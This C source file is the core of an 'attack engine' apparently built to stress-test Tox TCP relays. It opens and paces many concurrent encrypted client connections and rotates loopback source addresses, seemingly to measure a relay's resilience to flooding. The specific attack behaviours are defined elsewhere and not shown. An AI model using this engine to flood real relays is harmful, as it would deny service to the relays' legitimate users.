/* The thread of an attack: its clients, their streams, its pace. SPDX-License-Identifier: ISC */
#include "attack_engine.h"

#include <netinet/in.h>
#include <sched.h>
#include <sodium.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

enum {
    EVENTS_MAX = 256,
    TICK_MS = 2,
    DUE_MAX = 1000000,
    PING = 0x04,
    PONG = 0x05,
    PING_SIZE = 9,
    SOURCES_FIRST = 0x7f640001, /* 127.100.0.1 and on, away from where honest load comes from */
    SOURCES_MAX = 1 << 16
};

static uint64_t clock_ns(void)
{
    struct timespec now;

    (void)clock_gettime(CLOCK_MONOTONIC, &now);
    return (uint64_t)now.tv_sec * 1000000000U + (uint64_t)now.tv_nsec;
}

void attack_count(atomic_uint_fast64_t *counter, uint64_t more)
{
    (void)atomic_fetch_add_explicit(counter, more, memory_order_relaxed);
}

/* splitmix64: the same bytes for the same seed are all that is asked of it. */
uint64_t attack_random(struct attack *attack)
{
    uint64_t z = attack->random_state += 0x9e3779b97f4a7c15U;

    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9U;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebU;
    return z ^ (z >> 31);
}

void attack_random_bytes(struct attack *attack, uint8_t *bytes, size_t len)
{
    for (size_t i = 0; i < len; i += 8) {
        const uint64_t word = attack_random(attack);

        memcpy(bytes + i, &word, len - i < 8 ? len - i : 8);
    }
}

uint32_t attack_pace_due(struct attack_pace *pace, uint64_t now_ns)
{
    double most;

    if (pace->rate <= 0) {
        return ATTACK_TURN_MAX;
    }
    most = 1 + (pace->rate < DUE_MAX ? pace->rate : DUE_MAX) / 10;
    pace->credit += pace->rate * (double)(now_ns - pace->at_ns) / 1e9;
    pace->at_ns = now_ns;
    if (pace->credit > most) {
        pace->credit = most;
    }
    return (uint32_t)pace->credit;
}

void attack_pace_spend(struct attack_pace *pace, uint32_t done)
{
    pace->credit -= done;
}

/* --- Streams --- */

static uint32_t slot_of(const struct attack *attack, const struct mini *mini)
{
    return (uint32_t)(mini - attack->clients);
}

void attack_hang_up(struct attack *attack, struct mini *mini)
{
    if (mini->state != MINI_NONE) {
        mini_close(mini);
        attack->free_slots[attack->free_count++] = slot_of(attack, mini);
    }
}

void attack_lost(struct attack *attack, struct mini *mini)
{
    if (mini->state != MINI_NONE) {
        attack_count(mini->state == MINI_CONNECTING ? &attack->refused : &attack->closed, 1);
        attack_hang_up(attack, mini);
    }
}

/* The next of its addresses; NULL: whichever the kernel takes. */
static const struct sockaddr_storage *next_source(struct attack *attack, struct sockaddr_storage *source)
{
    struct sockaddr_in *in = (struct sockaddr_in *)source;

    if (attack->config.sources == 0) {
        return NULL;
    }
    memset(source, 0, sizeof *source);
    in->sin_family = AF_INET;
    in->sin_addr.s_addr = htonl(SOURCES_FIRST + attack->dials % attack->config.sources);
    return source;
}

bool attack_dial(struct attack *attack)
{
    struct epoll_event event = {.events = EPOLLIN | EPOLLOUT | EPOLLRDHUP | EPOLLET};
    struct sockaddr_storage source;
    struct mini *mini;

    if (attack->free_count == 0) {
        return false;
    }
    mini = &attack->clients[attack->free_slots[attack->free_count - 1]];
    if (!mini_dial(mini, &attack->remote, attack->remote_len, next_source(attack, &source),
                   attack->kind->small_buffers)) {
        attack_count(&attack->refused, 1);
        return false;
    }
    attack->dials++;
    attack->free_count--;
    event.data.u32 = slot_of(attack, mini);
    if (epoll_ctl(attack->epoll_fd, EPOLL_CTL_ADD, mini->fd, &event) != 0) {
        attack_lost(attack, mini);
        return false;
    }
    return true;
}

void attack_need_keys(struct attack *attack, struct mini *mini)
{
    uint8_t seed[crypto_box_SEEDBYTES];
    struct mini *first = &attack->clients[0];

    if (mini->has_keys) {
        return;
    }
    if (attack->kind->one_key && mini != first) {
        attack_need_keys(attack, first);
        memcpy(mini->public_key, first->public_key, 32);
        memcpy(mini->shared_key, first->shared_key, 32);
    } else {
        attack_random_bytes(attack, seed, sizeof seed);
        (void)crypto_box_seed_keypair(mini->public_key, mini->secret_key, seed);
        /* With a relay key of low order nobody shakes hands; zeros will do then. */
        if (crypto_box_beforenm(mini->shared_key, attack->config.relay_key.bytes, mini->secret_key) != 0) {
            memset(mini->shared_key, 0, sizeof mini->shared_key);
        }
    }
    mini->has_keys = true;
}

void attack_shake(struct attack *attack, struct mini *mini)
{
    uint8_t nonce[24];

    attack_need_keys(attack, mini);
    attack_random_bytes(attack, mini->send_nonce, sizeof mini->send_nonce);
    attack_random_bytes(attack, nonce, sizeof nonce);
    mini_make_request(mini, &attack->temporary, nonce, attack->request);
    if (!mini_put(mini, attack->request, sizeof attack->request)) {
        attack_hang_up(attack, mini);
        return;
    }
    mini->state = MINI_SHAKING;
    (void)attack_flush(attack, mini);
}

void attack_confirm(struct attack *attack, struct mini *mini)
{
    uint8_t ping[PING_SIZE] = {PING, 1};

    attack_random_bytes(attack, ping + 2, PING_SIZE - 2);
    (void)mini_send(mini, ping, sizeof ping);
}

void attack_send_key(struct mini *mini, uint8_t kind, const uint8_t key[32])
{
    uint8_t plain[1 + 32] = {kind};

    memcpy(plain + 1, key, 32);
    (void)mini_send(mini, plain, sizeof plain);
}

bool attack_flush(struct attack *attack, struct mini *mini)
{
    const long went = mini_flush(mini);

    if (went < 0) {
        attack_lost(attack, mini);
        return false;
    }
    attack_count(&attack->bytes_sent, (uint64_t)went);
    return true;
}

/* --- What comes --- */

static void on_opened(void *user, struct mini *mini)
{
    struct attack *attack = user;

    if (attack->kind->opened != NULL) {
        attack->kind->opened(attack, mini);
    }
}

static bool on_packet(void *user, struct mini *mini, const uint8_t *plain, size_t len)
{
    struct attack *attack = user;

    if (plain[0] == PING && len == PING_SIZE) {
        uint8_t pong[PING_SIZE];

        memcpy(pong, plain, sizeof pong);
        pong[0] = PONG;
        (void)mini_send(mini, pong, sizeof pong);
        return true;
    }
    return attack->kind->packet == NULL || attack->kind->packet(attack, mini, plain, len);
}

/* The stream that was asked for is there, or cannot be had. */
static void on_connect(struct attack *attack, struct mini *mini)
{
    int error = 0;
    socklen_t len = sizeof error;

    if (getsockopt(mini->fd, SOL_SOCKET, SO_ERROR, &error, &len) != 0 || error != 0) {
        attack_lost(attack, mini);
        return;
    }
    attack_count(&attack->connects, 1);
    mini->state = MINI_STREAM;
    if (attack->kind->connected != NULL) {
        attack->kind->connected(attack, mini);
    } else {
        attack_shake(attack, mini);
    }
}

static bool must_read(const struct mini *mini, uint32_t events)
{
    return (events & (EPOLLIN | EPOLLRDHUP)) != 0 && mini->state != MINI_NONE;
}

static void on_event(struct attack *attack, struct mini *mini, uint32_t events)
{
    if ((events & EPOLLOUT) != 0) {
        mini->writable = true;
    }
    if (mini->state == MINI_CONNECTING && (events & (EPOLLOUT | EPOLLERR | EPOLLHUP)) != 0) {
        on_connect(attack, mini);
    }
    if (must_read(mini, events) && !mini_read(mini, &attack->temporary, attack->input, on_packet, on_opened, attack)) {
        attack_lost(attack, mini);
    }
    /* One that does not read learns of the end in this way alone. */
    if (mini->state != MINI_NONE && (events & (EPOLLERR | EPOLLHUP | EPOLLRDHUP)) != 0) {
        attack_lost(attack, mini);
    }
    if (mini->state != MINI_NONE) {
        (void)attack_flush(attack, mini);
    }
}

/* --- The thread --- */

/* Returns whether there may be more to do at once. */
static bool act(struct attack *attack)
{
    const uint64_t now_ns = clock_ns();
    uint32_t due;
    uint32_t done;

    if (attack->kind->dial_rate > 0) {
        for (due = attack_pace_due(&attack->dial_pace, now_ns); due > 0 && attack_dial(attack); due--) {
            attack_pace_spend(&attack->dial_pace, 1);
        }
    }
    due = attack_pace_due(&attack->pace, now_ns);
    done = due > 0 ? attack->kind->act(attack, due) : 0;
    attack_pace_spend(&attack->pace, done);
    attack_count(&attack->actions, done);
    return done > 0 && attack->pace.rate <= 0;
}

/* What honest clients of this process see is to be the relay's doing, not a neighbour's here: so those of them who wake
 * up go first, at once. With a mere nice value they would wait out this thread's slice, of some 3 ms. */
static void give_way(void)
{
#ifdef SCHED_IDLE
    const struct sched_param param = {.sched_priority = 0};

    (void)sched_setscheduler(0, SCHED_IDLE, &param);
#endif
}

void *attack_run(void *user)
{
    struct attack *attack = user;
    struct epoll_event events[EVENTS_MAX];

    give_way();
    while (!atomic_load_explicit(&attack->ending, memory_order_relaxed)) {
        const bool more = act(attack);
        const int count = epoll_wait(attack->epoll_fd, events, EVENTS_MAX, more ? 0 : TICK_MS);

        for (int i = 0; i < count; i++) {
            const uint32_t slot = events[i].data.u32;

            if (attack->clients[slot].state != MINI_NONE) {
                on_event(attack, &attack->clients[slot], events[i].events);
            }
        }
    }
    return NULL;
}

/* --- Beginning and end --- */

static void set_remote(struct attack *attack)
{
    const struct toxtcp_address *relay = &attack->config.relay;
    struct sockaddr_in *in = (struct sockaddr_in *)&attack->remote;
    struct sockaddr_in6 *in6 = (struct sockaddr_in6 *)&attack->remote;

    if (relay->family == TOXTCP_FAMILY_IPV6) {
        in6->sin6_family = AF_INET6;
        in6->sin6_port = htons(relay->port);
        in6->sin6_scope_id = relay->scope_id;
        memcpy(&in6->sin6_addr, relay->ip, 16);
        attack->remote_len = sizeof *in6;
    } else {
        in->sin_family = AF_INET;
        in->sin_port = htons(relay->port);
        memcpy(&in->sin_addr, relay->ip, 4);
        attack->remote_len = sizeof *in;
    }
}

static void fill_in(struct attack *attack, const struct attack_config *config)
{
    const struct attack_kind *kind = attack->kind;
    struct attack_config *own = &attack->config;

    *own = *config;
    own->clients = own->clients > 0 ? own->clients : kind->clients;
    own->clients += kind->pairs ? own->clients % 2 : 0;
    own->rate = own->rate > 0 ? own->rate : kind->rate;
    own->sources = own->sources > 0 ? own->sources : kind->sources;
    if (own->sources > SOURCES_MAX) {
        own->sources = SOURCES_MAX;
    }
    if (own->relay.family != TOXTCP_FAMILY_IPV4 || own->relay.ip[0] != 127) {
        own->sources = 0;
    }
    attack->pace.rate = own->rate;
    attack->dial_pace.rate = kind->dial_rate;
    attack->pace.at_ns = clock_ns();
    attack->dial_pace.at_ns = attack->pace.at_ns;
    attack->random_state = own->seed;
}

/* Every client is a descriptor. Without enough of them an attack is smaller than it could be, no more. */
static void raise_descriptor_limit(void)
{
    struct rlimit limit;

    if (getrlimit(RLIMIT_NOFILE, &limit) == 0 && limit.rlim_cur < limit.rlim_max) {
        limit.rlim_cur = limit.rlim_max;
        (void)setrlimit(RLIMIT_NOFILE, &limit);
    }
}

static bool make_tables(struct attack *attack, const struct attack_config *config)
{
    const uint32_t count = attack->config.clients;

    attack->clients = calloc(count, sizeof *attack->clients);
    attack->free_slots = calloc(count, sizeof *attack->free_slots);
    attack->victims = calloc(config->victim_count + 1, sizeof *attack->victims);
    if (attack->clients == NULL || attack->free_slots == NULL || attack->victims == NULL) {
        return false;
    }
    if (config->victim_count > 0) {
        memcpy(attack->victims, config->victims, config->victim_count * sizeof *attack->victims);
    }
    attack->config.victims = attack->victims;
    for (uint32_t i = 0; i < count; i++) {
        attack->clients[i].fd = -1;
        attack->free_slots[attack->free_count++] = count - 1 - i;
    }
    return true;
}

int attack_set_up(struct attack *attack, const struct attack_config *config, struct problem *problem)
{
    attack->epoll_fd = epoll_create1(EPOLL_CLOEXEC);
    fill_in(attack, config);
    set_remote(attack);
    raise_descriptor_limit();
    if (sodium_init() < 0) {
        return problem_set(problem, "libsodium does not work here");
    }
    if (!make_tables(attack, config)) {
        return problem_set(problem, "no memory for %u clients", attack->config.clients);
    }
    if (attack->epoll_fd < 0) {
        return problem_set(problem, "no descriptor for an attack");
    }
    attack_random_bytes(attack, attack->temporary.secret_key, 32);
    (void)crypto_scalarmult_base(attack->temporary.public_key, attack->temporary.secret_key);
    return attack->kind->prepare == NULL || attack->kind->prepare(attack, problem) ? 0 : -1;
}

void attack_tear_down(struct attack *attack)
{
    for (uint32_t i = 0; attack->clients != NULL && i < attack->config.clients; i++) {
        if (attack->clients[i].state != MINI_NONE) {
            mini_close(&attack->clients[i]);
        }
    }
    if (attack->epoll_fd >= 0) {
        (void)close(attack->epoll_fd);
    }
    free(attack->clients);
    free(attack->free_slots);
    free(attack->victims);
}
